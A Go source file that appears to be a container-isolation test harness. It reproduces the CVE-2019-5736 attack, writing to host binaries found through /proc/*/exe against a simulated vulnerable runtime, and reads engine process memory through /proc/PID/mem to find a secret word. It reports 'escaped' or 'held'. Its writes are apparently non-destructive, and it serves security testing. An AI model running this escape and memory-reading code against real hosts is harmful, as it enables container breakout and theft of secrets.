package main

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"os/signal"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// file identifies a file.
type file struct{ dev, ino uint64 }

func identify(fd int) (f file, err error) {
	var st unix.Stat_t
	err = unix.Fstat(fd, &st)
	return file{st.Dev, st.Ino}, err
}

// overwrite looks for a process whose program is none of the container's, the
// given ones, and writes to it: its first byte, with the same value. Arguments:
// seconds, programs.
func overwrite(args []string) error {
	mine := map[file]bool{}
	for _, p := range args[1:] {
		fd, err := unix.Open(p, unix.O_PATH, 0)
		if err != nil {
			return fmt.Errorf("%s: %w", p, err)
		}
		f, err := identify(fd)
		if err != nil {
			return err
		}
		mine[f] = true
		unix.Close(fd)
	}
	fmt.Println("ready")
	opened, done := 0, map[file]bool{}
	for end := deadline(args[0]); time.Now().Before(end); {
		pids, _ := filepath.Glob("/proc/[0-9]*/exe")
		for _, p := range pids {
			if p == "/proc/1/exe" { // the attacker itself, or a naive runtime's parent
				continue
			}
			fd, err := unix.Open(p, unix.O_RDONLY, 0)
			if err != nil {
				continue
			}
			f, err := identify(fd)
			if err != nil || mine[f] || done[f] {
				unix.Close(fd)
				continue
			}
			opened++
			done[f] = true
			if err := write(fd); err != nil {
				held("%s is not mine, but: %v", p, err)
			} else {
				escaped("wrote to %s", p)
			}
			unix.Close(fd)
		}
	}
	fmt.Println("opened", opened)
	return nil
}

// write waits until the program of fd is executed by nobody, and writes to it.
func write(fd int) error {
	var err error
	for range 2500 {
		var w int
		if w, err = unix.Open("/proc/self/fd/"+strconv.Itoa(fd), unix.O_WRONLY, 0); err == nil {
			defer unix.Close(w)
			_, err = unix.Pwrite(w, []byte{0x7f}, 0)
			return err
		}
		if err != unix.ETXTBSY {
			return err
		}
		time.Sleep(time.Millisecond)
	}
	return err
}

func deadline(seconds string) time.Time {
	n, _ := strconv.Atoi(seconds)
	return time.Now().Add(time.Duration(n) * time.Second)
}

// naiveExec is what a runtime did before CVE-2019-5736: it enters the container
// and executes what it was told. Arguments: root, program.
func naiveExec(args []string) error {
	if err := unix.Chroot(args[0]); err != nil {
		return err
	}
	if err := unix.Chdir("/"); err != nil {
		return err
	}
	return unix.Exec(args[1], args[1:], nil)
}

// naive5736 runs the attack in a root directory against a naive runtime at
// the given path. Arguments: root, runtime.
func naive5736(args []string) error {
	root, runtime := args[0], args[1]
	if err := private(); err != nil {
		return err
	}
	if err := unix.Mount("proc", root+"/proc", "proc", 0, ""); err != nil {
		return err
	}
	attacker := exec.Command("/payload", "overwrite", "5", "/payload")
	attacker.SysProcAttr = &syscall.SysProcAttr{Chroot: root}
	attacker.Dir = "/"
	attacker.Stdout = os.Stdout
	if err := attacker.Start(); err != nil {
		return err
	}
	for range 5 {
		// The shebang's interpreter is the runtime itself; it ends by itself.
		_ = exec.Command(runtime, "naive-exec", root, "/evil").Run()
	}
	return attacker.Wait()
}

// private keeps mounts from the host.
func private() error { return unix.Mount("", "/", "", unix.MS_REC|unix.MS_PRIVATE, "") }

// hunt tries to read the memory of processes that are about to become the
// container's but are still the engine's, until SIGTERM. Arguments: seconds, the engine's name
// as comm(5) in /proc has it, a file with a word that the engine knows, and the only
// process to look at, if there are several of that name.
func hunt(args []string) error {
	self := os.Getpid()
	enough := make(chan os.Signal, 1)
	signal.Notify(enough, unix.SIGTERM)
	name := args[1][:min(len(args[1]), 15)]
	word, err := os.ReadFile(args[2])
	if err != nil {
		return err
	}
	only := 0
	if len(args) > 3 {
		if only, err = strconv.Atoi(args[3]); err != nil {
			return err
		}
	}
	seen, opened, got := 0, 0, 0
	heap, places := make([]byte, 16<<20), map[int64]int{}
	fmt.Println("ready")
	for end := deadline(args[0]); time.Now().Before(end) && len(enough) == 0 && got == 0; {
		dir, err := os.ReadDir("/proc")
		if err != nil {
			return err
		}
		for _, d := range dir {
			pid, err := strconv.Atoi(d.Name())
			if err != nil || pid == self || pid == 1 || only != 0 && pid != only {
				continue
			}
			comm, err := os.ReadFile("/proc/" + d.Name() + "/comm")
			if err != nil || strings.TrimSpace(string(comm)) != name {
				continue
			}
			seen++
			mem, err := os.Open("/proc/" + d.Name() + "/mem")
			if err != nil {
				continue
			}
			opened++
			// Whoever has the file open keeps the memory, whatever the process
			// executes; where it is, any process that enters has shown.
			writable(d.Name(), places)
			for from, n := range places {
				if n, _ := mem.ReadAt(heap[:min(n, len(heap))], from); bytes.Contains(heap[:n], word) {
					got++
				}
			}
			mem.Close()
		}
	}
	fmt.Println("seen", seen, "opened", opened)
	if got > 0 {
		escaped("the memory of %s has the word %d times", args[1], got)
	} else {
		held("the word is nowhere")
	}
	return nil
}

// writable adds the writable parts of a process's memory that are no file's.
func writable(pid string, to map[int64]int) {
	maps, err := os.ReadFile("/proc/" + pid + "/maps")
	if err != nil {
		return
	}
	for line := range strings.Lines(string(maps)) {
		f := strings.Fields(line)
		from, end, _ := strings.Cut(f[0], "-")
		a, err1 := strconv.ParseInt(from, 16, 64)
		z, err2 := strconv.ParseInt(end, 16, 64)
		if err1 == nil && err2 == nil && strings.HasPrefix(f[1], "rw") && len(to) < 200 {
			to[a] = int(z - a)
		}
	}
}
